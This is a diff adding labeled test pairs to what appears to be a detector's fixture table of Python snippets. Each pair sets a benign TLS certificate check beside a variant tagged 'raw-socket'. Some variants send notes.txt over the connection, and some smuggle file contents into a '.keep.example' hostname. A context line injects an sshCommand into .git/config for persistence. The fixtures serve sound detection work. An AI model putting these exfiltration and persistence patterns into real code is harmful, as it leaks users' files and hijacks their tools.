@@ -1,5 +1,6 @@
 import type { Pair } from "./code-pairs.table.ts";
 
+const TLS = `import socket\nimport ssl\nimport sys\n\nhost = sys.argv[1]\n`;
 const HOME = `import logging\nimport logging.handlers\nimport pathlib\n\nlog = logging.getLogger("a")\n`;
 
 /** Timers that are given something whose content nobody can tell. */
@@ -89,5 +90,41 @@ export const CARRIED_PYTHON: readonly Pair[] = [
     `import pathlib\npathlib.Path("tool/config").write_text("a = 1")\n`,
     `import os\nwith open(os.path.join(".git", "config"), "a") as f:\n    f.write("[core]\\n\\tsshCommand = sh a.sh\\n")\n`,
     "persistence-write",
+  ],
+  [
+    "a certificate that is looked at, and words said over the connection",
+    `${TLS}with socket.create_connection((host, 443), timeout=5) as raw:\n    with ssl.create_default_context().wrap_socket(raw, server_hostname=host) as s:\n        print(s.getpeercert()["notAfter"], s.version())\n`,
+    `${TLS}with socket.create_connection((host, 443), timeout=5) as raw:\n    with ssl.create_default_context().wrap_socket(raw, server_hostname=host) as s:\n        s.sendall(open("notes.txt", "rb").read())\n`,
+    "raw-socket",
+  ],
+  [
+    "a socket that is wrapped first, and one that is handed on",
+    `${TLS}s = ssl.create_default_context().wrap_socket(socket.socket(socket.AF_INET), server_hostname=host)\ns.settimeout(3)\ns.connect((host, 443))\nprint(s.getpeercert())\ns.close()\n`,
+    `${TLS}s = ssl.create_default_context().wrap_socket(socket.socket(socket.AF_INET), server_hostname=host)\ns.connect((host, 443))\nprint(s.getpeercert())\nsend = s.write\nsend(b"notes")\n`,
+    "raw-socket",
+  ],
+  [
+    "a host that is named, and one that data is put in",
+    `${TLS}raw = socket.create_connection((host, 443))\nprint(ssl.create_default_context().wrap_socket(raw, server_hostname=host).getpeercert())\n`,
+    `${TLS}raw = socket.create_connection((open("a.txt").read().strip() + ".keep.example", 443))\nprint(ssl.create_default_context().wrap_socket(raw).getpeercert())\n`,
+    "raw-socket",
+  ],
+  [
+    "the name that is asked for, and one that data is put in",
+    `${TLS}raw = socket.create_connection(("shop.example.net", 443))\nprint(ssl.create_default_context().wrap_socket(raw, server_hostname="shop.example.net").cipher())\n`,
+    `${TLS}raw = socket.create_connection(("shop.example.net", 443))\nprint(ssl.create_default_context().wrap_socket(raw, server_hostname=open("a.txt").read() + ".keep.example").cipher())\n`,
+    "raw-socket",
+  ],
+  [
+    "a connection that is looked at, and one that another function is given",
+    `${TLS}raw = socket.create_connection((host, 443))\ns = ssl.create_default_context().wrap_socket(raw, server_hostname=host)\nprint(s.getpeercert())\n`,
+    `${TLS}raw = socket.create_connection((host, 443))\ns = ssl.create_default_context().wrap_socket(raw, server_hostname=host)\nprint(s.getpeercert())\n\n\ndef say(one):\n    one.send(b"notes")\n\n\nsay(s)\n`,
+    "raw-socket",
+  ],
+  [
+    "a connection closed, and its other end kept",
+    `${TLS}raw = socket.create_connection((host, 443))\ns = ssl.create_default_context().wrap_socket(raw, server_hostname=host)\ns.close()\n`,
+    `${TLS}raw = socket.create_connection((host, 443))\ns = ssl.create_default_context().wrap_socket(raw, server_hostname=host)\nraw.send(b"notes")\n`,
+    "raw-socket",
   ],
 ];
